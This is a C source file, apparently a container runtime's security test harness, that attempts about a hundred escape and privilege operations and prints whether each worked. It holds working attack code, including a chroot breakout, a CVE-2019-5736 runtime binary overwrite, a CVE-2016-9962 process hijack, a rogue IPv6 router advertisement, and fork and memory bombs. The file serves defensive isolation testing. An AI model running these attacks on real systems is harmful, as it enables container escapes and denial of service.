// attack NAME [ARG]...: tries to do what a container must not be able to do.
//
// Prints one line: "WORKED", or "REFUSED" and the error. Arguments are chosen to do no harm: where
// success would change the machine, a call gets something that it can't use, and the error that the
// kernel gives after all its questions of rights (in the table at the end) counts as success.
//
// attack --each NAME...: each in a process of its own, and on a line of its own.
// attack --chroot DIR PROGRAM [ARG]...: chroot without chdir, for the attacks' controls.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/kexec.h>
#include <linux/perf_event.h>
#include <linux/prctl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// Every attack is like a system call: below 0, with errno, if it failed.

static long fail(int error)
{
    errno = error;
    return -1;
}

static void nap(void)
{
    nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
}

static long read_some(const char *path)
{
    char buffer[512];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return -1;
    long n = read(fd, buffer, sizeof buffer);
    close(fd);
    return n == 0 ? fail(ENODATA) : n;
}

// Only opens it, or writes what it is given.
static long write_to(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0 || !text)
        return fd;
    long n = write(fd, text, strlen(text));
    close(fd);
    return n;
}

// ------------------------------------------------------------------------------- files of the host

static long chroot_breakout(char **arg)
{
    mkdir("/tmp/deeper", 0700);
    if (chroot("/tmp/deeper"))
        return -1;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return -1;
    return chroot(".") ? -1 : read_some(arg[0]);
}

static long root_of_init(char **arg)
{
    char path[4096];
    snprintf(path, sizeof path, "/proc/1/root%s", arg[0]);
    return read_some(path);
}

static long working_directory(char **arg)
{
    char path[4096] = "../../../../../../../../../../../../../../../..";
    strncat(path, arg[0], 2000);
    return read_some(path);
}

static long leaked_descriptors(char **arg)
{
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            return fd;
    return fail(EBADF);
}

static long read_node(char **arg)
{
    return read_some(arg[0]);
}

static long mknod_and_read(char **arg)
{
    unlink("/tmp/node");
    mode_t kind = arg[0][0] == 'b' ? S_IFBLK : S_IFCHR;
    if (mknod("/tmp/node", kind | 0600, makedev(atoi(arg[1]), atoi(arg[2]))))
        return -1;
    long n = read_some("/tmp/node");
    int error = errno;
    unlink("/tmp/node");
    return n < 0 ? fail(error) : n;
}

static long handle(char **arg)
{
    struct {
        struct file_handle head;
        char rest[MAX_HANDLE_SZ];
    } h = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount;
    name_to_handle_at(AT_FDCWD, "/proc", &h.head, &mount, 0);
    return open_by_handle_at(AT_FDCWD, &h.head, O_RDONLY);
}

// ------------------------------------------------------------------------------- processes outside

static long kill_outside(char **arg)
{
    return kill(atoi(arg[0]), SIGUSR1);
}

static long pidfd_outside(char **arg)
{
    int fd = syscall(SYS_pidfd_open, atoi(arg[0]), 0);
    return fd < 0 ? -1 : syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0);
}

static long ptrace_outside(char **arg)
{
    int pid = atoi(arg[0]);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        return -1;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    return ptrace(PTRACE_DETACH, pid, 0, 0);
}

// -------------------------------------------------------------------------------- mounts and /proc

static long setattr_proc_sys(char **arg)
{
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    return syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &attr, sizeof attr);
}

static long sysrq(char **arg)
{
    return write_to("/proc/sysrq-trigger", arg[0]);
}

static long core_pattern(char **arg)
{
    return write_to("/proc/sys/kernel/core_pattern", arg[0]);
}

static long make_cgroup(char **arg)
{
    long made = mkdir("/sys/fs/cgroup/escape", 0700);
    if (!made)
        rmdir("/sys/fs/cgroup/escape");
    return made;
}

// ------------------------------------------------------------------------------- the kernel itself

static long bpf_call(char **arg)
{
    // An array of one 4-byte element.
    uint32_t attr[32] = {2 /* BPF_MAP_TYPE_ARRAY */, 4, 4, 1};
    return syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, attr, sizeof attr);
}

static long perf_event_call(char **arg)
{
    struct perf_event_attr attr = {
        .type = PERF_TYPE_SOFTWARE,
        .size = sizeof attr,
        .config = PERF_COUNT_SW_CPU_CLOCK,
        .exclude_kernel = 1,
    };
    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static long io_uring_call(char **arg)
{
    char params[120] = {0};
    return syscall(SYS_io_uring_setup, 1, params);
}

// Tells the kernel that a page of somebody's, here its own, won't be needed soon.
static long madvise_by_pidfd(char **arg)
{
    static _Alignas(4096) char page[4096];
    struct iovec range = {page, sizeof page};
    int fd = syscall(SYS_pidfd_open, getpid(), 0);
    return fd < 0 ? -1 : syscall(440 /* process_madvise */, fd, &range, 1, 20 /* MADV_COLD */, 0);
}

static long list_security_modules(char **arg)
{
    uint64_t ids[64];
    uint32_t size = sizeof ids;
    return syscall(461 /* lsm_list_modules */, ids, &size, 0);
}

// A delegation is a lease of a directory, too. Kernels before 6.19 do not know the command.
static long delegation(char **arg)
{
    struct { uint32_t flags; uint16_t type, pad; } read = {0, F_RDLCK, 0};
    return fcntl(open("/tmp", O_RDONLY | O_DIRECTORY), 1040 /* F_SETDELEG */, &read);
}

static long adjust_clock(char **arg)
{
    struct timex t = {.modes = ADJ_TICK, .tick = 1}; // out of range
    return syscall(SYS_clock_adjtime, CLOCK_REALTIME, &t);
}

// Really: to the time that it is.
static long set_clock(char **arg)
{
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    return clock_settime(CLOCK_REALTIME, &now);
}

static long set_timezone(char **arg)
{
    // The first check of a time zone comes after that of rights, and refuses this one.
    struct { int minutes_west, dst; } zone = {100000, 0};
    return syscall(SYS_settimeofday, NULL, &zone);
}

// -------------------------------------------------------------------------------------- namespaces

static const unsigned new_namespaces[] = {
    CLONE_NEWUSER, CLONE_NEWNS,  CLONE_NEWNET,    CLONE_NEWPID,
    CLONE_NEWIPC,  CLONE_NEWUTS, CLONE_NEWCGROUP, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET,
};
#define NUMBER_OF(array) (sizeof(array) / sizeof *(array))

static long unshare_any(char **arg)
{
    for (size_t i = 0; i < NUMBER_OF(new_namespaces); i++)
        if (!unshare(new_namespaces[i]))
            return 0;
    return unshare(0x80 /* CLONE_NEWTIME */);
}

static long forked(long pid)
{
    if (pid == 0)
        _exit(0);
    return pid < 0 ? -1 : waitpid(pid, NULL, __WALL);
}

static long clone_any(char **arg)
{
    for (size_t i = 0; i < NUMBER_OF(new_namespaces); i++)
        if (forked(syscall(SYS_clone, new_namespaces[i] | SIGCHLD, 0, 0, 0, 0)) >= 0)
            return 0;
    return -1;
}

static long clone3_any(char **arg)
{
    for (size_t i = 0; i < NUMBER_OF(new_namespaces); i++) {
        uint64_t args[8] = {new_namespaces[i], 0, 0, 0, SIGCHLD};
        if (forked(syscall(SYS_clone3, args, sizeof args)) >= 0)
            return 0;
    }
    return -1;
}

static long setns_own(char **arg)
{
    static const char *names[] = {"net", "mnt", "uts", "ipc", "pid", "cgroup"};
    for (size_t i = 0; i < NUMBER_OF(names); i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && !setns(fd, 0))
            return 0;
    }
    return -1;
}

static long setns_pidfd(char **arg)
{
    int fd = syscall(SYS_pidfd_open, getpid(), 0);
    return fd < 0 ? -1 : setns(fd, CLONE_NEWUTS);
}

static long setns_any_descriptor(char **arg)
{
    long result = -1;
    for (int fd = -1; fd < 256 && result; fd++) {
        result = setns(fd, 0);
        if (result && errno != EBADF && errno != EINVAL)
            return -1;
    }
    return result;
}

// ------------------------------------------------------------------------ the terminal, other ABIs

// Without a terminal on 0, a descriptor that none can be on: then EBADF is the kernel's last word.
static int terminal(void)
{
    return isatty(0) ? 0 : -1;
}

#ifdef __x86_64__
static long int80(char **arg)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(20 /* getpid */)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result < 0 ? fail(-(int)result) : result;
}

static long int80_unshare(char **arg)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(310 /* unshare */), "b"(CLONE_NEWUTS)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result < 0 ? fail(-(int)result) : result;
}

static long ioperm_call(char **arg)
{
    return syscall(SYS_ioperm, 0x80, 1, 1);
}
#endif

// ------------------------------------------------------------------------------------- the network

static long abstract_socket(char **arg)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(arg[0]);
    memcpy(address.sun_path + 1, arg[0], length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length);
}

static long tcp_on_loopback(char **arg)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(arg[0]))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&address, sizeof address);
}

// A kernel without the family tells so after all its questions of rights, and after it has looked
// for a module of that name. IPX is in none since 6.0; the others are merely rare.
static long rare_families(char **arg)
{
    static const int families[] = {AF_IPX, AF_APPLETALK, AF_DECnet, AF_IRDA, 44 /* AF_XDP */};
    for (size_t i = 0; i < NUMBER_OF(families); i++)
        if (socket(families[i], SOCK_RAW, 0) >= 0 || errno == EAFNOSUPPORT)
            return 0;
    return -1;
}

// There are no pairs of it: the kernel says so when it has made the first socket.
static long af_alg_pair(char **arg)
{
    int pair[2];
    long made = socketpair(AF_ALG, SOCK_SEQPACKET, 0, pair);
    return made < 0 && errno == EOPNOTSUPP ? fail(EAFNOSUPPORT) : made;
}

// frame IFACE HEX [COUNT]: sends the bytes as they are, as NET_RAW allows; COUNT times with ever new
// source addresses.
static long frame(char **arg)
{
    unsigned char bytes[1514];
    size_t length = 0;
    for (const char *hex = arg[1]; hex[0] && hex[1] && length < sizeof bytes; hex += 2) {
        char two[3] = {hex[0], hex[1], 0};
        bytes[length++] = strtol(two, NULL, 16);
    }
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(arg[0])};
    if (fd < 0 || to.sll_ifindex == 0)
        return -1;
    long count = arg[2] ? atol(arg[2]) : 1;
    for (long i = 0; i < count; i++) {
        if (arg[2]) {
            uint32_t number = htonl(i);
            bytes[6] = 0x06; // a local address, as all of them are
            memcpy(bytes + 8, &number, 4);
        }
        while (sendto(fd, bytes, length, 0, (struct sockaddr *)&to, sizeof to) < 0)
            if (errno != ENOBUFS)
                return -1;
    }
    return 0;
}

// neighbours COUNT: a datagram to each of as many addresses of the bridge's, again and again, until
// it is killed.
static long neighbours(char **arg)
{
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (fd < 0)
        return -1;
    puts("begins");
    for (;;)
        for (long i = 0; i < atol(arg[0]); i++) {
            struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
            to.sin_addr.s_addr = htonl(0x0a4dc800 + i); // 10.77.200.0
            sendto(fd, "", 1, 0, (struct sockaddr *)&to, sizeof to);
        }
}

// "I am your router, and fd66::/64 is here": for all that listen on the link (CVE-2020-13401).
static long router_advertisement(char **arg)
{
    unsigned char message[48] = {134, [4] = 64, [6] = 7, 8, [16] = 3, 4, 64, 0xc0, [22] = 1,
                                 [26] = 1, [32] = 0xfd, 0x66};
    int hops = 255, device = if_nametoindex(arg[0]);
    int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
    struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_scope_id = device};
    inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
    setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
    setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &device, sizeof device);
    // The link-local address takes a second to be usable.
    long sent = -1;
    for (int i = 0; i < 5000 && sent < 0; i++, nap())
        sent = sendto(fd, message, sizeof message, 0, (void *)&all, sizeof all);
    return sent;
}

// ------------------------------------------------------------------------------------- husk itself

// Calls `found` for every other process until it says that the attack has worked.
static long prowl(long (*found)(int pid), int milliseconds)
{
    for (int i = 0; i < milliseconds; i++) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return -1;
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != getpid() && found(pid) >= 0) {
                closedir(proc);
                return pid;
            }
        }
        closedir(proc);
    }
    return -1;
}

static int caught = -1;
static dev_t wanted_device;
static ino_t wanted_inode;

static long catch_exe(int pid)
{
    char path[64];
    struct stat its;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    // Never any other file than the one that there is for this.
    if (!fstat(fd, &its) && its.st_dev == wanted_device && its.st_ino == wanted_inode)
        return caught = fd;
    close(fd);
    return -1;
}

// CVE-2019-5736: hold on to the program file of whoever entered the container, and write to it when
// it no longer runs. ARGs are the numbers of that file's device and inode.
static long overwrite_visitor(char **arg)
{
    wanted_device = strtoull(arg[0], NULL, 10);
    wanted_inode = strtoull(arg[1], NULL, 10);
    if (prowl(catch_exe, 100000) < 0)
        return fail(ESRCH);
    puts("caught");
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", caught);
    for (int i = 0; i < 60000; i++, nap()) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0)
            return pwrite(fd, "owned", 5, 0);
        if (errno != ETXTBSY)
            return -1;
    }
    return -1;
}

static char comm[32];
static const char *by = "";
static long visits;

static int is_visitor(const char *seen)
{
    return comm[0] == '!' ? strcmp(seen, comm + 1) != 0 : strcmp(seen, comm) == 0;
}

// CVE-2016-9962: the process is still husk, which has all rights, and already in the container.
static long catch_visitor(int pid)
{
    char path[64], seen[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, seen, sizeof seen - 1);
    close(fd);
    if (n <= 0 || !is_visitor(seen))
        return -1;
    visits++;
    static const char *const files[] = {"mem", "environ", "root/proc", "cwd/.", "fd/3", "fd/4"};
    for (size_t i = 0; i < NUMBER_OF(files); i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        by = files[i];
        if ((fd = open(path, i == 0 ? O_RDWR : i == 1 ? O_RDONLY : O_PATH)) >= 0)
            goto opened;
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        return -1;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    by = "ptrace";
opened:
    // It may have become the command in the meantime; then this was no attack.
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int again = open(path, O_RDONLY);
    memset(seen, 0, sizeof seen);
    if (again < 0 || read(again, seen, sizeof seen - 1) < 0)
        seen[0] = 0;
    if (again >= 0)
        close(again);
    if (fd >= 0)
        close(fd);
    else
        ptrace(PTRACE_DETACH, pid, 0, 0);
    return seen[0] && is_visitor(seen) ? pid : -1;
}

static volatile sig_atomic_t enough;

static void stop(int signal)
{
    enough = signal;
}

// ARG is the name of the visitor's program, or "!" and a name that it has not. Until SIGUSR1; tells
// how many visits it saw.
static long trace_visitor(char **arg)
{
    snprintf(comm, sizeof comm, "%s\n", arg[0]);
    signal(SIGUSR1, stop);
    signal(SIGCHLD, SIG_IGN);
    puts("ready");
    long result = -1;
    while (!enough && result < 0)
        result = prowl(catch_visitor, 1);
    while (result >= 0 && !enough)
        pause();
    printf("visits %ld, last by %s\n", visits, by);
    return result < 0 ? fail(EACCES) : result;
}

// Survives husk.
static long outlive(char **arg)
{
    prctl(PR_SET_PDEATHSIG, 0);
    puts("ready");
    return pause();
}

static void *wait_for_ever(void *arg)
{
    puts("ready");
    while (pause())
        ;
    return arg;
}

// The main thread, to which cgroup.kill sends its signal, ends before the others.
static long end_of_main_thread(char **arg)
{
    pthread_t thread;
    prctl(PR_SET_PDEATHSIG, 0);
    if ((errno = pthread_create(&thread, NULL, wait_for_ever, arg)))
        return -1;
    pthread_exit(NULL);
}

// As `outlive`, and it takes the lock by which husk knows its own.
static long take_lock(char **arg)
{
    if (fork())
        return outlive(arg);
    return flock(open("/sys/fs/cgroup", O_RDONLY), LOCK_EX) ? -1 : pause();
}

// Claims that its arguments and environment are some gigabytes of zeros.
static long endless_arguments(char **arg)
{
    size_t length = (size_t)atoi(arg[0]) << 30;
    char *zeros = mmap(NULL, length, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (zeros == MAP_FAILED)
        return -1;
    char stat[4096] = "";
    int fd = open("/proc/self/stat", O_RDONLY);
    if (read(fd, stat, sizeof stat - 1) < 0)
        return -1;
    uint64_t field[64] = {0}; // numbered as in proc_pid_stat(5)
    int n = 3;
    for (char *word = strtok(strrchr(stat, ')') + 1, " "); word && n < 64; word = strtok(NULL, " "))
        field[n++] = strtoull(word, NULL, 10);
    struct prctl_mm_map map = {
        .start_code = field[26], .end_code = field[27], .start_stack = field[28],
        .start_data = field[45], .end_data = field[46], .start_brk = field[47],
        .brk = (uintptr_t)sbrk(0), .exe_fd = -1,
        .arg_start = (uintptr_t)zeros, .arg_end = (uintptr_t)zeros + length,
        .env_start = (uintptr_t)zeros, .env_end = (uintptr_t)zeros + length,
    };
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0))
        return -1;
    puts("ready");
    for (;;)
        pause();
}

// Without end only if nothing stops it: ARG is where it stops itself.
static long fork_bomb(char **arg)
{
    int n = 0, error = 0, wanted = atoi(arg[0]);
    for (; n < wanted; n++) {
        int pid = fork();
        if (pid == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            for (;;)
                pause();
        }
        if (pid < 0) {
            error = errno;
            break;
        }
    }
    return n < wanted ? fail(error) : n;
}

static long memory_bomb(char **arg)
{
    size_t length = (size_t)atoi(arg[0]) << 20;
    char *memory = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED)
        return -1;
    memset(memory, 1, length);
    return 0;
}

// Not attacks, but what their controls and victims need.

static long common_families(char **arg)
{
    static const int families[] = {AF_UNIX, AF_INET, AF_INET6};
    int pair[2];
    for (size_t i = 0; i < NUMBER_OF(families); i++)
        if (socket(families[i], SOCK_STREAM | SOCK_CLOEXEC, 0) < 0)
            return -1;
    if (socket(AF_NETLINK, SOCK_RAW, 0) < 0 || socket(AF_PACKET, SOCK_RAW, 0) < 0)
        return -1;
    return socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
}

static long common_personalities(char **arg)
{
    static const unsigned values[] = {PER_LINUX32, 0x20000 /* UNAME26 */, 0x20008, PER_LINUX};
    for (size_t i = 0; i < NUMBER_OF(values); i++)
        if (personality(values[i]) < 0 || personality(0xffffffff) != (int)values[i])
            return -1;
    return 0;
}

static long sleep_ms(char **arg)
{
    return usleep(atoi(arg[0]) * 1000);
}

// The name, the error that counts as success, and the call.
#define ATTACK(what, error, call)                                                                  \
    if (!strcmp(name, #what)) {                                                                    \
        *otherwise = error;                                                                        \
        return call;                                                                               \
    }

static long attack(const char *name, char **arg, int *otherwise)
{
    ATTACK(chroot_breakout, 0, chroot_breakout(arg))
    ATTACK(root_of_init, 0, root_of_init(arg))
    ATTACK(working_directory, 0, working_directory(arg))
    ATTACK(leaked_descriptors, 0, leaked_descriptors(arg))
    ATTACK(read_node, 0, read_node(arg))
    ATTACK(mknod_and_read, 0, mknod_and_read(arg))
    ATTACK(open_by_handle_at, ESTALE, handle(arg))
    ATTACK(kill_outside, 0, kill_outside(arg))
    ATTACK(pidfd_outside, 0, pidfd_outside(arg))
    ATTACK(ptrace_outside, 0, ptrace_outside(arg))
    ATTACK(mount_tmpfs, 0, mount("tmpfs", "/tmp", "tmpfs", 0, NULL))
    ATTACK(mount_proc, 0, mount("proc", "/tmp", "proc", 0, NULL))
    ATTACK(mount_bind, 0, mount("/proc", "/tmp", NULL, MS_BIND | MS_REC, NULL))
    ATTACK(umount_masked, 0, umount2("/proc/interrupts", MNT_DETACH))
    ATTACK(umount_read_only, 0, umount2("/proc/sys", MNT_DETACH))
    ATTACK(remount_proc_sys, 0, mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL))
    ATTACK(remount_dev, 0, mount(NULL, "/dev/null", NULL, MS_REMOUNT | MS_BIND, NULL))
    ATTACK(mount_setattr, 0, setattr_proc_sys(arg))
    ATTACK(open_tree, 0, syscall(SYS_open_tree, AT_FDCWD, "/proc", OPEN_TREE_CLONE))
    ATTACK(move_mount, ENOENT, syscall(SYS_move_mount, AT_FDCWD, "", AT_FDCWD, "", 0))
    ATTACK(fsopen, 0, syscall(SYS_fsopen, "tmpfs", 0))
    ATTACK(fsmount, EBADF, syscall(SYS_fsmount, -1, 0, 0))
    ATTACK(fspick, 0, syscall(SYS_fspick, AT_FDCWD, "/proc", 0))
    ATTACK(pivot_root, ENOENT, syscall(SYS_pivot_root, "/nonexistent", "/nonexistent"))
    ATTACK(write_sysctl, 0, write_to("/proc/sys/net/ipv4/ip_forward", "0"))
    ATTACK(sysrq, 0, sysrq(arg))
    ATTACK(core_pattern, 0, core_pattern(arg))
    ATTACK(dynamic_debug, 0, write_to("/proc/dynamic_debug/control", NULL))
    ATTACK(make_cgroup, 0, make_cgroup(arg))
    ATTACK(write_cgroup, 0, write_to("/sys/fs/cgroup/cgroup.procs", "0"))
    ATTACK(read_kcore, 0, read_some("/proc/kcore"))
    ATTACK(read_interrupts, 0, read_some("/proc/interrupts"))
    ATTACK(read_timer_list, 0, read_some("/proc/timer_list"))
    ATTACK(read_kernel_log, 0, syscall(SYS_syslog, 10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0))
    ATTACK(init_module, ENOEXEC, syscall(SYS_init_module, NULL, 0, ""))
    ATTACK(finit_module, EBADF, syscall(SYS_finit_module, -1, "", 0))
    ATTACK(delete_module, ENOENT, syscall(SYS_delete_module, "no_such_module", O_NONBLOCK))
    ATTACK(kexec_load, EINVAL, syscall(SYS_kexec_load, 0, KEXEC_SEGMENT_MAX + 1, NULL, 0))
    ATTACK(kexec_file_load, EBADF, syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 0))
    ATTACK(bpf, 0, bpf_call(arg))
    ATTACK(perf_event_open, 0, perf_event_call(arg))
    ATTACK(keyctl, 0, syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* the session's */, 1))
    ATTACK(add_key, 0, syscall(SYS_add_key, "user", "attack", "x", 1, -2 /* the process's */))
    ATTACK(request_key, ENOKEY, syscall(SYS_request_key, "user", "no such key", NULL, 0))
    ATTACK(userfaultfd, 0, syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */))
    ATTACK(io_uring, 0, io_uring_call(arg))
    ATTACK(fanotify, 0, syscall(SYS_fanotify_init, 0, O_RDONLY))
    ATTACK(swapon, ENOENT, swapon("/nonexistent", 0))
    ATTACK(swapoff, ENOENT, swapoff("/nonexistent"))
    ATTACK(reboot, EINVAL, syscall(SYS_reboot, 0, 0, 0, NULL))
    ATTACK(acct, ENOENT, acct("/nonexistent"))
    ATTACK(adjust_clock, EINVAL, adjust_clock(arg))
    ATTACK(set_clock, 0, set_clock(arg))
    ATTACK(set_timezone, EINVAL, set_timezone(arg))
    ATTACK(set_hostname, 0, sethostname("owned", 5))
    ATTACK(quotactl, ENOENT, syscall(SYS_quotactl, 0x80000500 /* Q_QUOTAOFF */, "/none", 0, NULL))
    ATTACK(vsock, 0, socket(AF_VSOCK, SOCK_STREAM, 0))
    ATTACK(af_alg, EAFNOSUPPORT, socket(AF_ALG, SOCK_SEQPACKET, 0))
    ATTACK(af_alg_high_bits, EAFNOSUPPORT, syscall(SYS_socket, 0xffff00000000 | AF_ALG, 5, 0))
    ATTACK(af_alg_pair, EAFNOSUPPORT, af_alg_pair(arg))
    ATTACK(rare_families, 0, rare_families(arg))
    ATTACK(read_implies_exec, 0, personality(READ_IMPLIES_EXEC))
    ATTACK(page_zero, 0, syscall(SYS_personality, 0xffffffff00000000 | MMAP_PAGE_ZERO))
    ATTACK(process_madvise, 0, madvise_by_pidfd(arg))
    ATTACK(lsm_list_modules, 0, list_security_modules(arg))
    ATTACK(lsm_get_self_attr, EINVAL, syscall(459, 0, NULL, NULL, 0))
    ATTACK(lsm_set_self_attr, EINVAL, syscall(460, 0, NULL, 0, 0))
    ATTACK(delegation, EINVAL, delegation(arg))
    ATTACK(lease, 0, fcntl(open("/attack", O_RDONLY), F_SETLEASE, F_RDLCK))
    ATTACK(unshare, 0, unshare_any(arg))
    ATTACK(clone, 0, clone_any(arg))
    ATTACK(clone3, 0, clone3_any(arg))
    ATTACK(setns, 0, setns_own(arg))
    ATTACK(setns_pidfd, 0, setns_pidfd(arg))
    ATTACK(setns_any_descriptor, EBADF, setns_any_descriptor(arg))
    ATTACK(tiocsti, EBADF, syscall(SYS_ioctl, terminal(), (unsigned long)TIOCSTI, "#"))
    ATTACK(tiocsti_high_bits, EBADF, syscall(SYS_ioctl, terminal(), 0xdead00000000 | TIOCSTI, "#"))
    ATTACK(tioclinux, EBADF, syscall(SYS_ioctl, -1, 0x541c, "\2"))
    ATTACK(tioclinux_high_bits, EBADF, syscall(SYS_ioctl, -1, 0xffffffff0000541c, "\2"))
#ifdef __x86_64__
    ATTACK(int80, 0, int80(arg))
    ATTACK(int80_unshare, 0, int80_unshare(arg))
    ATTACK(x32, 0, syscall(0x40000000 | SYS_getpid))
    ATTACK(x32_unshare, 0, syscall(0x40000000 | SYS_unshare, CLONE_NEWUTS))
    ATTACK(iopl, 0, syscall(SYS_iopl, 3))
    ATTACK(ioperm, 0, ioperm_call(arg))
#endif
    ATTACK(abstract_socket, 0, abstract_socket(arg))
    ATTACK(tcp_on_loopback, 0, tcp_on_loopback(arg))
    ATTACK(frame, 0, frame(arg))
    ATTACK(neighbours, 0, neighbours(arg))
    ATTACK(router_advertisement, 0, router_advertisement(arg))
    ATTACK(setuid_file, 0, geteuid() == 0 ? 0 : fail(EPERM))
    ATTACK(overwrite_visitor, 0, overwrite_visitor(arg))
    ATTACK(wait, 0, pause())
    ATTACK(trace_visitor, 0, trace_visitor(arg))
    ATTACK(outlive, 0, outlive(arg))
    ATTACK(end_of_main_thread, 0, end_of_main_thread(arg))
    ATTACK(take_lock, 0, take_lock(arg))
    ATTACK(endless_arguments, 0, endless_arguments(arg))
    ATTACK(fork_bomb, 0, fork_bomb(arg))
    ATTACK(memory_bomb, 0, memory_bomb(arg))
    ATTACK(common_families, 0, common_families(arg))
    ATTACK(common_personalities, 0, common_personalities(arg))
    ATTACK(nothing, 0, 0)
    ATTACK(sleep, 0, sleep_ms(arg))
    fprintf(stderr, "attack: no such attack: %s\n", name);
    exit(2);
}

static const char *attempt(const char *name, char **arg)
{
    static char text[64];
    int otherwise = 0;
    errno = 0;
    if (attack(name, arg, &otherwise) >= 0)
        return "WORKED";
    const char *how = errno == otherwise ? "WORKED as far as" : "REFUSED";
    snprintf(text, sizeof text, "%s %s", how, strerrorname_np(errno));
    return text;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc > 3 && !strcmp(argv[1], "--chroot")) {
        if (chroot(argv[2]) || execv(argv[3], argv + 3))
            perror(argv[2]);
        return 1;
    }
    if (argc > 1 && !strcmp(argv[1], "--each")) {
        char *none[] = {NULL};
        for (int i = 2; i < argc; i++) {
            int pid = fork();
            if (pid == 0) {
                printf("%s %s\n", argv[i], attempt(argv[i], none));
                return 0;
            }
            waitpid(pid, NULL, 0);
        }
        return 0;
    }
    if (argc < 2) {
        fprintf(stderr, "usage: attack NAME [ARG]...\n");
        return 2;
    }
    puts(attempt(argv[1], argv + 2));
    return 0;
}
